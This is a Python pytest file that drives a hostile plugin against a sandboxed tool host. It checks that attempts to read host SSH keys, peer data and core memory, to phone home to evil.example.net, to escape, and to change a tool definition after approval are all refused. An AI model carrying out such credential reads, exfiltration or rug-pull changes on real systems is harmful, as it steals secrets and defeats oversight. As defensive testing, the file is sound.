"""A hostile plugin behind real walls, and beside each attack a harmless twin that works."""

from __future__ import annotations

import socket

import pytest
from tests.real.conftest import Answer, Estate, House, alive, birth_of, kill, until

pytestmark = [pytest.mark.real, pytest.mark.requirement("A1.1")]


def attack(house: House, tool: str, plugin: str = "hostile", **arguments: object) -> bool:
    """Whether the attacker got something; what it got is shown when the test fails."""
    answers: list[Answer] = []

    def is_answered() -> bool:
        answers.append(house.call(f"{plugin}__{tool}", **arguments))
        return answers[-1].code == "ok"

    until(is_answered, f"{plugin} serves")
    report = answers[-1].report
    print(report)  # noqa: T201
    return bool(report["succeeded"])


@pytest.mark.threat("T-READ-HOST")
def test_the_keys_of_the_host_are_not_there(house: House, estate: Estate) -> None:
    assert not attack(house, "read_ssh_keys", path=str(estate.ssh))


@pytest.mark.threat("T-READ-HOST", "T-READ-CORE")
def test_the_keys_of_the_house_are_not_there(house: House) -> None:
    assert not attack(house, "read_peer_data", path=str(house.home / "keys"))


@pytest.mark.threat("T-READ-PEER")
def test_what_was_granted_to_another_plugin_is_not_there(house: House, estate: Estate) -> None:
    assert not attack(house, "read_peer_data", path=str(estate.granted))
    assert not attack(house, "read_peer_data", path=str(estate.peer))


@pytest.mark.threat("T-READ-HOST", "T-READ-PEER")
def test_what_was_granted_is_there_and_nothing_beside_it(house: House, estate: Estate) -> None:
    assert attack(house, "read_peer_data", plugin="granted", path=str(estate.granted))
    assert not attack(house, "read_peer_data", plugin="granted", path=str(estate.peer))


@pytest.mark.threat("T-READ-CORE")
@pytest.mark.parametrize("whose", ["core", "anybody"])
def test_no_memory_but_its_own_can_be_read(house: House, whose: str) -> None:
    pid = house.pid("core") if whose == "core" else 0
    assert not attack(house, "read_core_memory", pid=pid)


@pytest.mark.threat("T-EGRESS")
def test_it_cannot_phone_home(house: House, estate: Estate) -> None:
    assert not attack(house, "phone_home", host="127.0.0.1", port=estate.port)
    assert not attack(house, "phone_home", host="evil.example.net", port=443)


@pytest.mark.threat("T-EGRESS")
def test_a_granted_service_can_be_reached_and_no_other(house: House, estate: Estate) -> None:
    with socket.create_server(("127.0.0.1", 0)) as other:
        port = int(other.getsockname()[1])
        assert not attack(house, "phone_home", plugin="granted", host="localhost", port=port)
    assert attack(house, "phone_home", plugin="granted", host="localhost", port=estate.port)


def test_a_granted_service_is_reached_again_after_egress_was_killed(house: House, estate: Estate) -> None:
    egress, server = house.pid("egress"), house.pid("plugin granted")
    kill(egress)
    until(
        lambda: attack(house, "phone_home", plugin="granted", host="localhost", port=estate.port),
        "the new egress process serves the old sandbox",
    )
    assert house.pid("egress") != egress
    assert house.pid("plugin granted") == server


@pytest.mark.threat("T-READ-HOST", "T-READ-CORE")
def test_no_known_way_leads_out(house: House) -> None:
    assert not attack(house, "escape")


@pytest.mark.threat("T-ORPHAN")
def test_a_daemon_left_behind_ends_with_its_plugin_server(house: House) -> None:
    until(lambda: house.answers("hostile__echo", text="a"), "hostile serves")
    server = house.pid("plugin hostile")
    before = house.tree(server)
    assert house.call("hostile__fork_daemon", seconds=600).report["succeeded"]
    family = {pid: birth_of(pid) for pid in house.tree(server)}
    assert set(family) - before
    kill(server)
    until(lambda: not alive(family), "the daemon is gone")
    until(lambda: house.answers("hostile__echo", text="b"), "hostile comes back")


@pytest.mark.threat("T-RUGPULL", "T-HIDDEN")
def test_a_definition_that_changes_after_approval_is_refused(house: House, estate: Estate) -> None:
    until(lambda: house.answers("turncoat__echo", text="a"), "it serves as approved")
    (estate.sign / "now").touch()
    until(
        lambda: house.call("turncoat__echo", text="a").code == "definition_changed", "the change is noticed"
    )
    answer = house.call("turncoat__echo", text="a")
    assert answer.status == 200
    assert house.recorded(answer.call_id) == ["refusal definition_changed"]
    names = {tool["name"] for tool in house.request("tools/list", {}).body["result"]["tools"]}
    assert "turncoat__echo" not in names
    assert "hostile__echo" in names  # the same tool, unchanged
    house.unaffected()
